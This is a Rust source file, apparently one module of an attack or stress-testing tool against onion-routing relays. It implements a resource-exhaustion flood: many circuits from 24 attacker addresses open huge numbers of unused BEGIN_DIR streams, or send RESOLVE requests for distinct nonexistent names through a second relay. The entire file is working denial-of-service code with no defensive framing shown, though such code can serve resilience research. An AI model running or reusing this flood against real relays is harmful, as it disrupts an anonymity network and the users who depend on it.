//! Floods of streams that are never used.

use super::Attack;
use super::attacker::{Attacker, LineId};
use super::circuits::Circuit;
use onion::cell::relay::RelayCommand;

/// Addresses of the attacker, with a link each.
const LINES: usize = 24;

/// Circuits on each link.
const CIRCUITS: u32 = 20;

/// Streams of a circuit.
const STREAMS: u16 = 60_000;

/// Opens the maximum number of streams of one kind.
pub(super) struct Flood {
    command: RelayCommand,
    /// Whether the circuits have two hops, of which the relay is the last.
    uses_another_relay: bool,
    circuits: Vec<(Circuit, u16)>,
    asked: u64,
}

impl Flood {
    /// Streams to the relay's directory without a request.
    pub(super) fn begin_dir() -> Self {
        Self::new(RelayCommand::BEGIN_DIR, false)
    }

    /// RESOLVE of names that do not exist and are all different.
    pub(super) fn resolve() -> Self {
        Self::new(RelayCommand::RESOLVE, true)
    }

    fn new(command: RelayCommand, uses_another_relay: bool) -> Self {
        Self { command, uses_another_relay, circuits: Vec::new(), asked: 0 }
    }
}

impl Attack for Flood {
    fn act(&mut self, attacker: &mut Attacker) {
        let relay = *attacker.target().relay();
        let (lines, onward) = if self.uses_another_relay {
            (attacker.keep_via(LINES), &[relay][..])
        } else {
            (attacker.keep(LINES), &[][..])
        };
        for line in lines {
            if attacker.begun(line) < CIRCUITS && attacker.can_send(line) {
                attacker.begin(line, onward);
            }
        }
        for (circuit, streams) in &mut self.circuits {
            // In turn, so that many circuits are used.
            for _ in 0..8 {
                if !attacker.can_send(circuit.line) {
                    break;
                }
                *streams = *streams % STREAMS + 1;
                self.asked += 1;
                let name = match self.command {
                    RelayCommand::RESOLVE => format!("n{}.attacked.invalid\0", self.asked),
                    _ => String::new(),
                };
                circuit.send(attacker, self.command, *streams, name.as_bytes());
            }
        }
    }

    fn handle_built(&mut self, _attacker: &mut Attacker, circuit: Circuit) {
        self.circuits.push((circuit, 0));
    }

    fn handle_lost(&mut self, line: LineId) {
        self.circuits.retain(|(circuit, _)| circuit.line != line);
    }
}
